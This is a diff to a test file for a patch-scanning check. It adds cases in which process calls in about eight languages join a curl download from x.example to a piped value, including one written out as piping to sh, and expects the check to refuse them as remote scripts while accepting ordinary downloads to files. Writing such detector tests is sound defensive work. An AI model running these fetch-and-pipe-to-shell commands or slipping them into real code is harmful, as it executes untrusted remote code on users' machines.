@@ -4,9 +4,10 @@ import { LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES, cpuGrowthExponent } from '../s
 import { checkedAdding as checked, patchAdding } from '../support/patches.js';
 
 /**
- * Attack pass 13's groups B and D (docs/attack-pass-13.md): installers and runners given a URL or a remote repository,
- * and here-documents the check did not read in the shell's folded forms or followed to a file. Each refusal below
- * failed first; each acceptance is a look-alike that ordinary code or documentation writes.
+ * Attack pass 13's groups B, D and E (docs/attack-pass-13.md): installers and runners given a URL or a remote
+ * repository, here-documents the check did not read in the shell's folded forms or followed to a file, and download
+ * command lines joined to a value in a string given to a process call. Each refusal below failed first; each
+ * acceptance is a look-alike that ordinary code or documentation writes.
  */
 
 const M = 'docs/setup.md';
@@ -103,6 +104,52 @@ describe('pass 13, group D: here-documents', () => {
   ])('accepts, in %s: %s', accepted);
 });
 
+describe('pass 13, group E: a download command line joined to a value in a process call', () => {
+  it.each([
+    ['src/load.py', "os.system('curl https://x.example/i -fsSL ' + pipe)"],
+    ['src/load.py', "os.system('curl -s https://x.example/i' + ' ' + pipe)"],
+    ['src/load.py', "os.system('curl -s x.example/i ' + pipe)"],
+    ['src/load.py', "os.system('curl -s https://x.example/i %(p)s' % {'p': pipe})"],
+    ['src/load.py', "os.system(' '.join(['curl -s https://x.example/i', pipe]))"],
+    ['src/load.py', "os.system(f'curl -s https://x.example/i { pipe }')"],
+    ['src/load.py', "os.system(\n    'curl -s https://x.example/i '\n    '| sh'\n)"],
+    ['src/load.js', 'execSync(`curl -s https://x.example/i ${ pipe }`);'],
+    ['src/load.js', "execSync(['curl -s https://x.example/i', pipe].join(' '));"],
+    ['src/main.go', 'exec.Command("sh", "-c", fmt.Sprintf("curl -s https://x.example/i %v", pipe)).Run()'],
+    ['src/setup.php', 'system("curl -s https://x.example/i $pipe");'],
+    ['lib/setup.pl', 'system("curl -s https://x.example/i $pipe");'],
+    ['lib/setup.rb', 'system("curl -s https://x.example/i #@pipe")'],
+    ['lib/setup.rb', 'system("curl -s https://x.example/i #{ pipe }")'],
+    ['src/Setup.kt', 'Runtime.getRuntime().exec(arrayOf("sh", "-c", "curl -s https://x.example/i $pipe"))'],
+    ['src/Setup.swift', 'shell("curl -s https://x.example/i \\(pipe)")'],
+  ])('refuses, in %s: %s', refusedAs('remote-script'));
+
+  // What follows an output option is the file's name, where nothing else follows it: anything more is refused again.
+  it.each([
+    ['src/Setup.kt', 'Runtime.getRuntime().exec(arrayOf("sh", "-c", "curl -s https://x.example/i -o $out $pipe"))'],
+    ['src/load.py', "os.system('curl -s https://x.example/i -o ' + out + ' ' + pipe)"],
+    ['src/load.py', "os.system('curl -s https://x.example/i -O ' + pipe)"],
+    ['src/load.js', "execSync(['curl -s x.example/i -o', out, pipe].join(' '));"],
+  ])('refuses, in %s: %s', refusedAs('remote-script'));
+
+  it.each([
+    ['src/fixtures.py', "os.system('curl -fsSL https://x.example/a.json -o ' + path)"],
+    ['src/fixtures.py', "subprocess.run('wget -q https://x.example/a.tgz -O ' + dest, shell=True, check=True)"],
+    ['src/fixtures.py', "os.system('curl -s https://x.example/a.json > ' + out)"],
+    ['src/fixtures.py', "os.system('curl -s https://x.example/api?page=' + str(page))"],
+    ['src/fixtures.py', 'os.system("curl -s https://x.example/a.json -o $HOME/a.json")'],
+    ['src/fixtures.py', "os.system('curl -s https://x.example/a.json -H \"Accept: $TYPE\"')"],
+    ['src/fixtures.py', "subprocess.run(['curl', '-s', 'https://x.example/a.json', '-o', out], check=True)"],
+    ['src/fixtures.php', "system('curl -s https://x.example/a.json -o ' . escapeshellarg($out));"],
+    ['lib/fixtures.rb', 'system("curl -s https://x.example/a.json -o #{out}")'],
+    ['src/Fixtures.kt', 'Runtime.getRuntime().exec(arrayOf("sh", "-c", "curl -s https://x.example/a.json -o $out"))'],
+    ['src/fixtures.js', 'execSync(`curl -s https://x.example/a.json -o ${out}`);'],
+    ['src/fixtures.go', 'exec.Command("sh", "-c", "curl -s https://x.example/a.json -o "+out).Run()'],
+    ['src/cli.py', "print(f'run: curl -s https://x.example/i { flags }')"],
+    ['src/cli.py', "cmds = [\n    'curl -s https://x.example/a.json',\n    'jq .items a.json',\n]"],
+  ])('accepts, in %s: %s', accepted);
+});
+
 describe('pass 14: the cost of reading installers, here-documents and joined download strings', () => {
   for (const [name, unit] of [
     ['installers given words', "'helm x 'pip install --x=y 'kubectl -f a 'brew install a/b "],
@@ -113,6 +160,9 @@ describe('pass 14: the cost of reading installers, here-documents and joined dow
     // A quote after a `)` or `}` closes a string or opens one: read both ways at each, this was exponential (1 KB, 3 s).
     ['downloads in strings closed by brackets and quotes', 'x("curl x.example/i } $a #{b}") } "'],
     ['downloads in groups closed many times', 'y("curl x.example/i ) $a) } ; "'],
+    ['joined download strings', "os.system('curl -s x.example/i -o ' + f + ' ' + p) [\"wget https://x.example/i\", p, "],
+    ['download strings with interpolations', 'system("curl -s https://x.example/i -o $a #{b} %s \\\\(c) { d } ${e}") '],
+    ['download strings without a URL', "'curl -s a.b.c.d.e.f.g.h 'wget x x x x x x x "],
   ] as const) {
     it(`reads a patch-sized text of ${name} in linear time`, { timeout: 120_000 }, () => {
       // Prepare: up to 18 KB, near the check's 20 KB
